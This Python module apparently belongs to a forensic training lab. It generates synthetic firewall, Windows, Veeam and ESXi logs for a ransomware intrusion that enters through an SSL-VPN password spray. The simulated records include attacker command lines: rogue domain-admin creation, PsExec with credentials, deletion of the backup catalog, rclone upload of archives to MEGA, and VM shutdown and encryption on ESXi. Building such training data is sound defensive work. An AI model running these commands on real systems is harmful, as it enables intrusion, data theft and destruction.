"""``vpn-intrusion``: today's double extortion in Japan, in through the SSL-VPN (issue 16).

All week a few staff work from home over FG-TOKYO's SSL-VPN (a typo now and then). On the
incident evening a password-spraying run tries many accounts a few times each from two
hosting addresses abroad; one account falls, and from its tunnel address the operator RDPs
to RDS01, dumps LSASS with procdump and finds an IT administrator's password. With it they
create a domain admin of their own on DC01 (4720, 4728, 4732), PsExec to the backup server
(Veeam jobs and restore points deleted, the Windows Server Backup catalogue deleted, shadow
copies gone) and to FS01, where 7-Zip stages two departments into split archives and a
renamed rclone uploads them to MEGA (large egress in FG-TOKYO's traffic log). Last, SSH is
turned on at the ESXi host, the VMs are powered off and their files encrypted and renamed,
with a note in each datastore.

Variants as for ``hands-on-keyboard``: ``full`` or ``default-logging``; ``--missing
endpoint`` leaves a case with the VPN, firewall, DC and ESXi logs only.
"""

from __future__ import annotations

import functools
import hashlib
import random
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ashiato.lab import serverlife
from ashiato.lab.clock import MINUTE, SECOND, at, is_workday, iso_utc, jst_offset_iso
from ashiato.lab.context import Ctx
from ashiato.lab.endpoint import Proc
from ashiato.lab.ids import alnum, guid, hex_id
from ashiato.lab.net import dns_query
from ashiato.lab.scenarios.hok import RDS, _admin, dc_host
from ashiato.lab.scenarios.intrusion import (
    Intrusion,
    delete_shadows,
    domain_account,
    dump_lsass,
    psexec,
    rdp_logon,
    server_streams,
)
from ashiato.lab.sink import Sink, StreamSpec
from ashiato.lab.story import Encrypted, Story
from ashiato.lab.winhost import CMD, SYSTEM32, Account, WinHost
from ashiato.lab.world import DOMAIN, DOMAIN_SID, EGRESS_IP, SERVERS, World
from ashiato.lab.writers import esxi as esxi_writer

FS = ("FS01", SERVERS["FS01"].ip)
BK = ("BKUP01", SERVERS["BKUP01"].ip)
ESXI = ("esxi01", "10.0.0.60")
POOL = [f"10.212.134.{n}" for n in range(200, 211)]  # FortiOS's default SSL-VPN range
RDS_CHANNELS = ("security", "system", "sysmon", "ps", "lsm", "rcm")
FS_CHANNELS = ("security", "system", "sysmon", "ps")
BK_CHANNELS = ("security", "system", "sysmon", "ps", "application", "veeam")
SPRAY_FROM = (("203.0.113.71", "203.0.113.72", "Netherlands"),
              ("198.51.100.77", "198.51.100.78", "United States"),
              ("203.0.113.161", "203.0.113.162", "Singapore"))
# Staff at home, on Japanese consumer lines: ranges no other part of the lab hands out.
HOME = ("203.0.113.{n}", "198.51.100.{m}")
GENERIC = ("admin", "administrator", "vpn", "test", "user", "guest", "support", "fortinet",
           "sslvpn", "itadmin", "backup", "scan")
MEGA_API = ("g.api.mega.co.nz", "203.0.113.230")
MEGA_STORAGE = [(f"gfs{n}n{m}.userstorage.mega.co.nz", f"203.0.113.{231 + i}")
                for i, (n, m) in enumerate(((270, 121), (214, 108), (262, 132), (302, 114)))]
VMS = ("APP01", "SQL01", "WEB01", "KINTAI01", "DEV-BUILD01", "PRINT01")


@dataclass
class Plan:
    t: dict[str, int]
    spray: tuple[str, str, str]
    client: str
    entry: Account
    admin: Account
    rogue: Account
    tunnel_ip: str
    password: str
    tools: str
    rclone: str
    vm_ext: str
    note: str
    vms: dict[str, list[str]]  # datastore -> VMs
    home_users: list[str] = field(default_factory=list)
    # datastore -> (path under it, size, mtime) as the responders' ls -lR will show them
    listing: dict[str, list[tuple[str, int, int]]] = field(default_factory=dict)


def plan(story: Story, world: World, rng: random.Random, day: int) -> Plan:
    t0 = at(day, 18) + rng.randint(0, 90) * MINUTE + rng.randint(0, 59_999)
    t = {"spray": t0}
    t["login"] = t0 + rng.randint(50, 80) * MINUTE
    t["rdp"] = t["login"] + rng.randint(3, 8) * MINUTE
    t["dump"] = t["rdp"] + rng.randint(4, 9) * MINUTE
    t["account"] = t["dump"] + rng.randint(5, 10) * MINUTE
    t["backup"] = t["account"] + rng.randint(4, 8) * MINUTE
    t["stage"] = t["backup"] + rng.randint(6, 12) * MINUTE
    t["upload"] = t["stage"] + rng.randint(12, 25) * MINUTE
    t["esxi"] = t["upload"] + rng.randint(70, 110) * MINUTE
    t["leave"] = t["esxi"] + rng.randint(20, 30) * MINUTE
    users = rng.sample(world.users, len(world.users))
    entry_user = users[0]
    ds = {"datastore1": list(VMS[:3]), "datastore2": list(VMS[3:])}
    p = Plan(t, rng.choice(SPRAY_FROM),
             rng.choice(("DESKTOP-" + hex_id(rng, 7), "WIN-" + hex_id(rng, 11))),
             domain_account(entry_user.sam, entry_user.rid), _admin(world, rng),
             domain_account(rng.choice(("svc_update", "backupadmin", "sqlsvc", "it_support")),
                            1300 + rng.randint(0, 50)),
             POOL[rng.randint(0, 2)],  # held by a member of staff earlier in the week
             alnum(rng, 7).capitalize() + "#" + str(rng.randint(100, 999)),
             "C:\\ProgramData", rng.choice(("svchosts.exe", "winupd.exe", "taskmgrs.exe",
                                            "msdtcs.exe")),
             "." + alnum(rng, 6), rng.choice(("HOW_TO_RESTORE.txt", "README_VMS.txt")), ds,
             [u.sam for u in users[1:1 + max(4, len(users) // 10)]])
    story.day = day
    story.vector = "remote_access"
    story.share_offline_at = at(day + 1, 8) + rng.randint(20, 50) * MINUTE
    specs: list[StreamSpec] = []
    for name, chans in ((RDS[0], RDS_CHANNELS), (FS[0], FS_CHANNELS), (BK[0], BK_CHANNELS)):
        s, _ = server_streams(name, chans, story.variant,
                              existing={"security": "fs01"} if name == "FS01" else None)
        specs += s
    base = f"evidence/hypervisor/{ESXI[0]}"
    # ESXi 7.0 or 8.0 (their log headers differ), fixed per run without drawing from rng
    v8 = random.Random(f"{p.tunnel_ip}|{p.vm_ext}|esxi-version").random() < 0.5
    story.details["esxi_version"] = "8.0" if v8 else "7.0"
    for log, writer in (("hostd", esxi_writer.hostd), ("shell", esxi_writer.shell),
                        ("auth", esxi_writer.auth), ("vobd", esxi_writer.vobd)):
        render = functools.partial(writer, v8=v8)
        specs.append(StreamSpec(f"esxi:{log}", "hypervisor", f"{base}/{log}.log", render,
                                f"esxi-{log}", ESXI[0], "UTC", True))
    story.extra_streams += specs
    story.details["plan"] = p
    p.listing = {ds: [] for ds in p.vms}
    story.snapshots.append(("hypervisor-listing", functools.partial(_write_listing, p=p)))
    return p


def _write_listing(out: Path, collected_at: int, p: Plan) -> str:
    """What ``ls -lR /vmfs/volumes/`` printed over SSH after the incident."""
    rel = f"evidence/hypervisor/{ESXI[0]}/datastores_ls-lR.txt"
    stores = [(ds, _vmfs_uuid(ds, p), files) for ds, files in sorted(p.listing.items())]
    text = esxi_writer.ls_lr(stores, year_of(collected_at), collected_at)
    (out / rel).parent.mkdir(parents=True, exist_ok=True)
    (out / rel).write_text(text, encoding="utf-8", newline="\n")
    return rel


def _vmfs_uuid(ds: str, p: Plan) -> str:
    """A VMFS volume UUID (8-8-4-12 hex), fixed per datastore and run."""
    h = hashlib.sha256(f"{ds}|{p.vm_ext}|{p.tunnel_ip}".encode()).hexdigest()
    return f"{h[:8]}-{h[8:16]}-{h[16:20]}-{h[20:32]}"


def year_of(ms: int) -> int:
    return time.gmtime(ms // 1000).tm_year


def arm(story: Story, sink: Sink, seed: int, audit: bool, days: int) -> Intrusion:
    p: Plan = story.details["plan"]
    intr = Intrusion(story.variant, random.Random(f"{seed}|vpn-run"))
    full = story.variant == "full"
    hosts = {}
    for name, ip, chans in ((RDS[0], RDS[1], RDS_CHANNELS), (FS[0], FS[1], FS_CHANNELS),
                            (BK[0], BK[1], BK_CHANNELS)):
        keys = {c: f"srv:{name.lower()}:{c}" for c in chans}
        if name == "FS01":
            keys["security"] = "fs01"
        hosts[name.lower()] = WinHost(name, ip, sink, random.Random(f"{seed}|{name}"), keys,
                                      full, audit_shares=audit and name == "FS01")
    intr.hosts = hosts
    intr.dc = dc_host(sink, seed)
    intr.details["host_ips"] = {**{h.short: h.ip for h in hosts.values()}, ESXI[0]: ESXI[1]}
    story.details["intrusion"] = intr
    serverlife.schedule(story, hosts, days, seed, VMS)
    for day in range(story.day + 2 if story.day is not None else 0):
        if is_workday(day):
            story.add(at(day, 7, 30), functools.partial(_home_workers, p=p, day=day))
    story.add(p.t["spray"], functools.partial(_spray, intr=intr, p=p))
    story.add(p.t["rdp"], functools.partial(_operator, intr=intr, p=p))
    story.add(p.t["esxi"] - 10 * SECOND, functools.partial(_esxi, intr=intr, p=p))
    return intr


# -- the VPN ------------------------------------------------------------------------------


def vpn_event(ctx: Ctx, ts: int, action: str, user: str, remip: str, country: str,
              **kw: Any) -> None:
    ctx.emit("fw:FG-TOKYO", ts, {"kind": "vpn", "action": action, "user": user,
                                 "remip": remip, "srccountry": country, **kw})


def _home_workers(ctx: Ctx, p: Plan, day: int) -> None:
    """Staff on the VPN from home: a session of hours, the odd mistyped password first."""
    rng = random.Random(f"{ctx.seed}|home|{day}")
    for i, sam in enumerate(rng.sample(p.home_users, rng.randint(2, len(p.home_users)))):
        start = at(day, 8) + rng.randint(0, 150) * MINUTE + rng.randint(0, 59_999)
        k = sum(map(ord, sam)) % 40
        home = HOME[i % 2].format(n=100 + k, m=160 + k)
        if rng.random() < 0.2:
            vpn_event(ctx, start - rng.randint(20, 90) * SECOND, "ssl-login-fail", sam, home,
                      "Japan", tunneltype="ssl-web", reason="sslvpn_login_permission_denied")
        tunnel = POOL[i % 3]  # FortiOS hands out the low end of the pool first
        tid = rng.randint(10_000, 99_999)
        vpn_event(ctx, start, "tunnel-up", sam, home, "Japan", tunnelip=tunnel, tunnelid=tid,
                  group="SSLVPN_Users")
        dur = rng.randint(2 * 60, 7 * 60) * 60
        vpn_event(ctx, start + dur * 1000, "tunnel-down", sam, home, "Japan", tunnelip=tunnel,
                  tunnelid=tid, group="SSLVPN_Users", duration=dur,
                  sentbyte=rng.randint(20_000_000, 300_000_000),
                  rcvdbyte=rng.randint(100_000_000, 900_000_000))


def _spray(ctx: Ctx, intr: Intrusion, p: Plan) -> None:
    """Many accounts, one or two tries each, from two addresses; then one works."""
    rng = intr.rng
    ip_a, ip_b, country = p.spray
    names = [*GENERIC, *rng.sample(p.home_users, min(6, len(p.home_users)))]
    known = ctx.world.users
    names += [u.sam for u in rng.sample(known, min(len(known), 24))]
    # the account that falls is tried last (with the password that works)
    names = [n for n in dict.fromkeys(names) if n != p.entry.sam]
    rng.shuffle(names)
    t = p.t["spray"]
    step = max(SECOND, (p.t["login"] - t - 5 * MINUTE) // (len(names) * 2))
    for name in names:
        for _ in range(rng.choice((1, 1, 2))):
            known_user = any(u.sam == name for u in known)
            vpn_event(ctx, t, "ssl-login-fail", name, rng.choice((ip_a, ip_b)), country,
                      tunneltype="ssl-web",
                      reason="sslvpn_login_permission_denied" if known_user
                      else "sslvpn_login_unknown_user")
            t += step + rng.randint(0, step)
    tid = rng.randint(10_000, 99_999)
    vpn_event(ctx, p.t["login"], "tunnel-up", p.entry.sam, ip_b, country, tunnelip=p.tunnel_ip,
              tunnelid=tid, group="SSLVPN_Users")
    end = p.t["leave"]
    vpn_event(ctx, end, "tunnel-down", p.entry.sam, ip_b, country, tunnelip=p.tunnel_ip,
              tunnelid=tid, group="SSLVPN_Users", duration=(end - p.t["login"]) // 1000,
              sentbyte=rng.randint(30_000_000, 90_000_000),
              rcvdbyte=rng.randint(200_000_000, 600_000_000))
    intr.technique("T1110.003", "fg-tokyo", p.t["spray"])
    intr.technique("T1133", "fg-tokyo", p.t["login"])
    intr.entry.update(kind="vpn", source_ip=ip_b, spray_ips=[ip_a, ip_b], country=country,
                      host=RDS[0].lower(), account=p.entry.qualified,
                      time=iso_utc(p.t["login"]), tunnel_ip=p.tunnel_ip, device="FG-TOKYO",
                      sprayed_accounts=len(names))
    intr.account(p.entry, "entry", f"SSL-VPN from {ip_b} ({country}), tunnel {p.tunnel_ip}",
                 p.t["login"])


def _fw(ctx: Ctx, ts: int, end: int, src: str, srcintf: str, dst: str, dport: int,
        service: str, sent: int, rcvd: int, *, wan: bool = False, country: str = "Reserved",
        **kw: Any) -> None:
    sport = 49152 + ctx.port() % 16000
    e = {"kind": "traffic", "srcip": src, "srcport": sport, "srcintf": srcintf, "dstip": dst,
         "dstport": dport, "dstintf": "wan1" if wan else "internal", "policyid": 9 if wan else 5,
         "service": service, "duration": max(1, (end - ts) // 1000), "sentbyte": sent,
         "rcvdbyte": rcvd, "action": "close", "dstcountry": country, **kw}
    if wan:
        e.update(transip=EGRESS_IP, transport=40000 + sport % 20000)
    ctx.emit("fw:FG-TOKYO", end, e)


def _ids(ctx: Ctx, src: str, dst: str, dport: int, start: int, end: int, up: int, down: int,
         proto: str, sni: str | None = None) -> None:
    """The HQ core sensor's view of one session: a TLS record with the SNI, then the flow."""
    flow, sport = ctx.flow_id(), ctx.port()
    if sni:
        ctx.emit("ids", start + 120, {
            "flow_id": flow, "event_type": "tls", "src_ip": src, "src_port": sport,
            "dest_ip": dst, "dest_port": dport,
            "tls": {"sni": sni, "version": "TLS 1.2", "subject": f"CN=*.{sni.split('.', 1)[1]}",
                    "issuerdn": "C=US, O=DigiCert Inc, CN=DigiCert TLS RSA SHA256 2020 CA1"}})
    ctx.emit("ids", end, {
        "flow_id": flow, "event_type": "flow", "src_ip": src, "src_port": sport,
        "dest_ip": dst, "dest_port": dport, "app_proto": proto,
        "flow": {"pkts_toserver": up // 1300 + 2, "pkts_toclient": down // 1300 + 2,
                 "bytes_toserver": up, "bytes_toclient": down,
                 "start": jst_offset_iso(start), "end": jst_offset_iso(end),
                 "age": max(0, (end - start) // 1000), "state": "closed", "reason": "timeout",
                 "alerted": False}})


# -- the servers --------------------------------------------------------------------------


def _operator(ctx: Ctx, intr: Intrusion, p: Plan) -> None:
    rng, t = intr.rng, p.t
    rds, fs, bk = intr.hosts["rds01"], intr.hosts["fs01"], intr.hosts["bkup01"]
    s = rdp_logon(intr, rds, t["rdp"], p.entry, p.tunnel_ip, p.client, admin=True)
    intr.technique("T1078.002", "rds01", t["rdp"])
    up, down = rng.randint(5_000_000, 30_000_000), rng.randint(50_000_000, 200_000_000)
    _fw(ctx, t["rdp"], t["leave"] - 40 * SECOND, p.tunnel_ip, "ssl.root", RDS[1], 3389, "RDP",
        up, down)
    _ids(ctx, p.tunnel_ip, RDS[1], 3389, t["rdp"], t["leave"] - 40 * SECOND, up, down, "rdp")
    explorer = Proc("C:\\Windows\\explorer.exe", 6212, guid(rng), "C:\\Windows\\explorer.exe")
    who = p.entry.qualified
    shell = rds.spawn(t["dump"] - 30 * SECOND, CMD, "\"C:\\Windows\\system32\\cmd.exe\"",
                      explorer, s)
    rds.file_created(t["dump"] - 20 * SECOND, shell, f"{p.tools}\\procdump64.exe", who)
    dump_lsass(intr, rds, t["dump"], s, "procdump", shell)
    intr.account(p.admin, "credential_dumped", "taken from LSASS on rds01", t["dump"])
    _new_domain_admin(ctx, intr, p, rds, s, shell)
    psexe = f"{p.tools}\\PsExec64.exe"
    rds.file_created(t["backup"] - MINUTE, shell, psexe, who)
    # The backup server first: no way back once the backups are gone.
    tool = rds.spawn(t["backup"] - 300, psexe, f"PsExec64.exe \\\\{BK[1]} -accepteula -u "
                     f"{p.rogue.qualified} -p {p.password} cmd.exe", shell, s)
    run = psexec(intr, rds, bk, t["backup"], s, tool, p.rogue)
    bshell = bk.spawn(run.started + 800, CMD, "cmd.exe", run.service, run.logon)
    _destroy_backups(intr, p, bk, run.started + 20 * SECOND, run.logon, bshell)
    delete_shadows(intr, bk, t["backup"] + 3 * MINUTE, run, bshell)
    bk.service_state(t["backup"] + 4 * MINUTE, "PSEXESVC", False)
    bk.logoff(t["backup"] + 4 * MINUTE + 200, run.logon)
    # Then the file server: stage, upload, and leave the share intact (the VMs are the target).
    tool = rds.spawn(t["stage"] - 300, psexe, f"PsExec64.exe \\\\{FS[1]} -accepteula -u "
                     f"{p.rogue.qualified} -p {p.password} cmd.exe", shell, s)
    run = psexec(intr, rds, fs, t["stage"], s, tool, p.rogue)
    fshell = fs.spawn(run.started + 800, CMD, "cmd.exe", run.service, run.logon)
    _stage_and_upload(ctx, intr, p, fs, run.logon, fshell)
    rds.rdp_session(t["leave"] - 45 * SECOND, 24, p.entry, 2, p.tunnel_ip)


def _new_domain_admin(ctx: Ctx, intr: Intrusion, p: Plan, rds: WinHost, s: Any,
                      shell: Proc) -> None:
    ts = p.t["account"]
    net = f"{SYSTEM32}\\net.exe"
    rds.spawn(ts, net, f"net user {p.rogue.sam} {p.password} /add /domain", shell, s)
    rds.spawn(ts + 40 * SECOND, net, f'net group "Domain Admins" {p.rogue.sam} /add /domain',
              shell, s)
    rds.spawn(ts + 70 * SECOND, net, f"net localgroup Administrators {p.rogue.sam} /add "
              "/domain", shell, s)
    admin = p.admin
    subject = {"SubjectUserSid": admin.sid, "SubjectUserName": admin.sam,
               "SubjectDomainName": "CORP",
               "SubjectLogonId": f"0x{intr.rng.randint(0x100000, 0x7FFFFFF):x}"}
    dn = f"CN={p.rogue.sam},CN=Users,DC=corp,DC=example,DC=jp"
    ctx.emit("dc01", ts + 400, {"id": 4720, "pid": 572, "data": {
        "TargetUserName": p.rogue.sam, "TargetDomainName": "CORP", "TargetSid": p.rogue.sid,
        **subject, "PrivilegeList": "-", "SamAccountName": p.rogue.sam,
        "DisplayName": "%%1793", "UserPrincipalName": "-", "HomeDirectory": "%%1793",
        "HomePath": "%%1793", "ScriptPath": "%%1793", "ProfilePath": "%%1793",
        "UserWorkstations": "%%1793", "PasswordLastSet": "%%1794", "AccountExpires": "%%1794",
        "PrimaryGroupId": "513", "AllowedToDelegateTo": "-", "OldUacValue": "0x0",
        "NewUacValue": "0x15", "UserAccountControl": "%%2080 %%2082 %%2084",
        "UserParameters": "%%1793", "SidHistory": "-", "LogonHours": "%%1797"}})
    for dt, group, gsid, domain, eid in ((40, "Domain Admins", f"{DOMAIN_SID}-512", "CORP", 4728),
                                         (70, "Administrators", "S-1-5-32-544", "Builtin",
                                          4732)):
        ctx.emit("dc01", ts + dt * SECOND + 300, {"id": eid, "pid": 572, "data": {
            "MemberName": dn, "MemberSid": p.rogue.sid, "TargetUserName": group,
            "TargetDomainName": domain, "TargetSid": gsid, **subject, "PrivilegeList": "-"}})
    intr.technique("T1136.002", "dc01", ts)
    intr.technique("T1098", "dc01", ts)
    intr.account(p.rogue, "created", "4720 on dc01, added to Domain Admins (4728) and "
                 "Administrators (4732)", ts)
    intr.account(p.admin, "creator", f"created {p.rogue.qualified}", ts)
    intr.details["new_accounts"] = [{"account": p.rogue.qualified, "created_by":
                                     p.admin.qualified, "groups": ["Domain Admins",
                                                                   "Administrators"],
                                     "time": iso_utc(ts)}]


def _destroy_backups(intr: Intrusion, p: Plan, bk: WinHost, ts: int, s: Any,
                     shell: Proc) -> None:
    rng = intr.rng
    vbr = f"{bk.name}.{DOMAIN}"  # the Veeam server logs its own events
    jobs = [f"Backup Job {name}" for name in ("FS01", "DC01", "VMs daily", "SQL01")]
    t = ts
    points = 0
    for job in jobs:
        for vm in rng.sample(VMS, 2):
            for k in range(rng.randint(2, 4)):
                bk.veeam(t, 10050, {
                    "OibID": guid(rng).strip("{}").lower(),
                    "OriginalOibID": guid(rng).strip("{}").lower(), "VmRef": f"vm-{10 + k}",
                    "VmName": vm, "ServerName": f"{ESXI[0]}.{DOMAIN}",
                    "DateTime": "", "IsCorrupted": "False", "Platform": "0",
                    "StorageSize": str(rng.randint(5, 90) * 1_073_741_824),
                    "RepositoryID": guid(rng).strip("{}").lower(), "IsFull": str(k == 0),
                    "UserFullInfo": p.rogue.qualified, "VbrHostName": vbr,
                    "VbrVersion": "12.0.0.1420", "Version": "1",
                    "Description": f"Restore point for VM '{vm}' has been removed by user "
                                   f"'{p.rogue.qualified}'."})
                t += rng.randint(2, 8) * SECOND
                points += 1
        bk.veeam(t, 23090, {
            "JobID": guid(rng).strip("{}").lower(), "JobType": "0", "Platform": "0",
            "JobName": job, "ChangesXML": "", "UserName": p.rogue.qualified,
            "VbrHostName": vbr, "VbrVersion": "12.0.0.1420", "Version": "1",
            "Description": f"Backup job '{job}' has been deleted."})
        t += rng.randint(5, 20) * SECOND
    wbadmin = f"{SYSTEM32}\\wbadmin.exe"
    bk.spawn(t, wbadmin, "wbadmin delete catalog -quiet", shell, s)
    bk.backup_catalog_deleted(t + 2 * SECOND)
    intr.technique("T1490", "bkup01", ts)
    intr.details["backups_deleted"] = {"host": "bkup01", "veeam_jobs": jobs,
                                       "restore_points": points,
                                       "windows_backup_catalog": True}


def _stage_and_upload(ctx: Ctx, intr: Intrusion, p: Plan, fs: WinHost, s: Any,
                      shell: Proc) -> None:
    rng, t = intr.rng, p.t
    who = s.account.qualified
    seven = f"{p.tools}\\7za.exe"
    fs.file_created(t["stage"] + 30 * SECOND, shell, seven, who)
    depts = rng.sample(("経理", "人事", "総務", "営業"), 2)
    archive = f"{p.tools}\\s\\{alnum(rng, 4)}.7z"
    zip_proc = fs.spawn(t["stage"] + MINUTE, seven,
                        f"7za.exe a -mx1 -v2g -p{p.password} {archive} "
                        + " ".join(f"D:\\share\\{d}" for d in depts), shell, s)
    total = rng.randint(3_200_000_000, 7_800_000_000)
    parts = -(-total // 2_147_483_648)
    for i in range(parts):
        fs.file_created(t["stage"] + (3 + 2 * i) * MINUTE, zip_proc, f"{archive}.{i + 1:03d}",
                        who)
    intr.technique("T1560.001", "fs01", t["stage"])
    renamed = f"{p.tools}\\{p.rclone}"
    fs.file_created(t["upload"] - MINUTE, shell, renamed, who)
    conf = f"{p.tools}\\rc.conf"
    fs.file_created(t["upload"] - 50 * SECOND, shell, conf, who)
    rclone = fs.spawn(t["upload"], renamed,
                      f"{p.rclone} copy {p.tools}\\s mega:bk -q --ignore-existing "
                      f"--auto-confirm --multi-thread-streams 12 --transfers 12 "
                      f"--config {conf}", shell, s,
                      pe={"FileVersion": "1.62.2", "Description": "Rsync for cloud storage",
                          "Product": "Rclone", "Company": "https://rclone.org",
                          "OriginalFileName": "rclone.exe"})
    intr.technique("T1036.003", "fs01", t["upload"])
    for i, name in enumerate([MEGA_API[0]] + [h for h, _ in MEGA_STORAGE]):
        dns_query(ctx, FS[1], t["upload"] + 100 + i * 40, name, rng)
    fs.connect(t["upload"] + 300, rclone, MEGA_API[1], 443, who)
    sent_total = rng.randint(9_000, 30_000)  # the API session, then the storage streams
    api_down = rng.randint(20_000, 90_000)
    _fw(ctx, t["upload"] + 300, t["upload"] + 4 * SECOND, FS[1], "internal", MEGA_API[1], 443,
        "HTTPS", sent_total, api_down, wan=True,
        country="New Zealand", app="MEGA", appid=31213, appcat="Storage.Backup",
        hostname=MEGA_API[0])
    _ids(ctx, FS[1], MEGA_API[1], 443, t["upload"] + 300, t["upload"] + 4 * SECOND,
         sent_total, api_down, "tls", MEGA_API[0])
    start = t["upload"] + 5 * SECOND
    streams = 12
    per = total // streams
    for i in range(streams):
        host, ip = MEGA_STORAGE[i % len(MEGA_STORAGE)]
        dur = per // rng.randint(3_000_000, 6_000_000) * 1000  # a few MB/s per stream
        sent = per + rng.randint(2_000_000, 9_000_000)
        down = rng.randint(800_000, 3_000_000)
        sent_total += sent
        fs.connect(start + i * 700, rclone, ip, 443, who)
        _fw(ctx, start + i * 700, start + i * 700 + dur, FS[1], "internal", ip, 443, "HTTPS",
            sent, down, wan=True, country="Canada", app="MEGA",
            appid=31213, appcat="Storage.Backup", hostname=host)
        _ids(ctx, FS[1], ip, 443, start + i * 700, start + i * 700 + dur, sent, down, "tls",
             host)
    intr.technique("T1567.002", "fs01", t["upload"])
    intr.details["exfiltration"] = {
        "host": "fs01", "tool": "rclone", "binary": renamed, "destination": "mega",
        "hostnames": [MEGA_API[0]] + [h for h, _ in MEGA_STORAGE],
        "ips": [MEGA_API[1]] + [ip for _, ip in MEGA_STORAGE], "bytes": sent_total,
        "archive": archive, "archive_bytes": total, "folders": [f"D:\\share\\{d}" for d in depts],
        "start": iso_utc(t["upload"])}


# -- the hypervisor -----------------------------------------------------------------------


def _esxi(ctx: Ctx, intr: Intrusion, p: Plan) -> None:
    rng, t0 = intr.rng, p.t["esxi"]
    src = RDS[1]  # the operator works from RDS01's desktop (browser, then PuTTY)
    op = f"esxui-{hex_id(rng, 4).lower()}"
    hostd_pid = 2099000 + rng.randint(0, 999)

    def hostd(ts: int, sub: str, text: str, user: str | None = "root",
              level: str = "info") -> None:
        ctx.emit("esxi:hostd", ts, {"sub": sub, "op": op if user else None, "user": user,
                                    "text": text, "level": level, "pid": hostd_pid})

    ctx.emit("esxi:auth", t0 - 2 * SECOND, {"proc": "hostd", "pid": hostd_pid,
                                            "text": f"Accepted password for user root from "
                                                    f"{src}"})
    hostd(t0, "Vimsvc.ha-eventmgr", f"Event 211 : User root@{src} logged in as "
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    hostd(t0 + 40 * SECOND, "Vimsvc.TaskManager",
          "Task Created : haTask-ha-host-vim.host.ServiceSystem.start-" + str(rng.randint(
              10**8, 10**9)))
    hostd(t0 + 41 * SECOND, "Vimsvc.ha-eventmgr", "Event 212 : SSH access has been enabled.")
    ctx.emit("esxi:vobd", t0 + 41 * SECOND, {"group": "UserLevelCorrelator",
                                             "id": "esx.audit.ssh.enabled",
                                             "text": "SSH access has been enabled."})
    intr.compromise(ESXI[0], t0)
    intr.technique("T1021.004", ESXI[0], t0 + 41 * SECOND)
    intr.edge("rds01", ESXI[0], "root", "ssh", t0 + 41 * SECOND)
    t = t0 + 80 * SECOND
    sshd = 2100000 + rng.randint(0, 9999)
    ctx.emit("esxi:auth", t, {"proc": "sshd", "pid": sshd, "text": f"Accepted "
                              f"keyboard-interactive/pam for root from {src} port "
                              f"{rng.randint(49152, 65535)} ssh2"})
    ctx.emit("esxi:auth", t + 100, {"proc": "sshd", "pid": sshd, "text":
                                    "pam_unix(sshd:session): session opened for user root by "
                                    "(uid=0)"})
    ctx.emit("esxi:vobd", t + 200, {"group": "UserLevelCorrelator",
                                    "id": "esx.audit.ssh.session.opened",
                                    "text": f"SSH session was opened for 'root@{src}'."})
    shell_pid = sshd + rng.randint(5, 50)

    def cmd(ts: int, command: str) -> None:
        ctx.emit("esxi:shell", ts, {"pid": shell_pid, "user": "root", "command": command})

    t += 20 * SECOND
    cmd(t, "esxcli system version get")
    cmd(t + 15 * SECOND, "esxcli vm process list")
    cmd(t + 40 * SECOND, "vim-cmd vmsvc/getallvms")
    t += 90 * SECOND
    encrypted: list[dict[str, Any]] = []
    vmids = {vm: 1 + i for i, vm in enumerate(VMS)}
    for ds, vms in p.vms.items():
        for vm in vms:
            world = rng.randint(1_000_000, 9_999_999)
            if rng.random() < 0.5:
                cmd(t, f"esxcli vm process kill --type=force --world-id={world}")
            else:
                cmd(t, f"vim-cmd vmsvc/power.off {vmids[vm]}")
            vmx = f"/vmfs/volumes/{ds}/{vm}/{vm}.vmx"
            ctx.emit("esxi:hostd", t + 900, {
                "sub": f"Vmsvc.vm:{vmx}", "user": None, "pid": hostd_pid,
                "text": "State Transition (VM_STATE_ON -> VM_STATE_OFF)"})
            hostd(t + 1_000, "Vimsvc.ha-eventmgr", f"Event {300 + vmids[vm]} : {vm} on "
                  f"{ESXI[0]}.{DOMAIN} in ha-datacenter is powered off", None)
            t += rng.randint(8, 25) * SECOND
    intr.technique("T1529", ESXI[0], t)
    binary = "/tmp/" + alnum(rng, 6)  # noqa: S108 - the intruder's path on the ESXi host
    cmd(t + 20 * SECOND, f"chmod +x {binary}")
    t_enc = t + 40 * SECOND
    for ds, vms in p.vms.items():
        cmd(t_enc, f"nohup {binary} /vmfs/volumes/{ds} > /dev/null 2>&1 &")
        files = []
        for vm in vms:
            for suffix in (".vmx", ".vmdk", "-flat.vmdk", ".nvram", ".vmsd", ".vmxf"):
                name = f"{vm}/{vm}{suffix}"
                files.append(name)
                size = (rng.randint(40, 200) * 1_073_741_824 if suffix == "-flat.vmdk"
                        else rng.randint(500, 9_000))
                p.listing[ds].append((name + p.vm_ext, size, t_enc + len(files) * 900))
                ctx.story.facts.encrypted.append(Encrypted(
                    "datastore", ESXI[0], f"/vmfs/volumes/{ds}/{name}",
                    f"/vmfs/volumes/{ds}/{name}{p.vm_ext}", t_enc + len(files) * 900,
                    "root", "root"))
            p.listing[ds].append((f"{vm}/vmware.log", rng.randint(200_000, 900_000),
                                  t - rng.randint(1, 60) * SECOND))
        note_at = t_enc + len(files) * 900 + 2 * SECOND
        p.listing[ds].append((p.note, 1_604, note_at))
        ctx.story.facts.notes.append(("datastore", ESXI[0], f"/vmfs/volumes/{ds}/{p.note}",
                                      note_at))
        encrypted.append({"host": ESXI[0], "datastore": ds, "vms": list(vms),
                          "files_renamed": len(files), "extension": p.vm_ext,
                          "note": f"/vmfs/volumes/{ds}/{p.note}", "time": iso_utc(t_enc),
                          "files": [f"/vmfs/volumes/{ds}/{f}{p.vm_ext}" for f in files]})
        t_enc += 5 * SECOND
    intr.technique("T1486", ESXI[0], t + 40 * SECOND)
    intr.details["encrypted_datastores"] = encrypted
    ctx.emit("esxi:auth", t_enc + 5 * MINUTE, {"proc": "sshd", "pid": sshd,
                                               "text": "pam_unix(sshd:session): session "
                                                       "closed for user root"})
    _ids(ctx, src, ESXI[1], 443, t0 - 3 * SECOND, t0 + 60 * SECOND, rng.randint(40_000, 90_000),
         rng.randint(900_000, 3_000_000), "tls", f"{ESXI[0]}.{DOMAIN}")
    _ids(ctx, src, ESXI[1], 22, t0 + 79 * SECOND, t_enc + 5 * MINUTE,
         rng.randint(60_000, 200_000), rng.randint(100_000, 400_000), "ssh")
    ctx.story.details.update(note_names=[p.note], rename="append", extension=p.vm_ext,
                             family="esxi-locker")
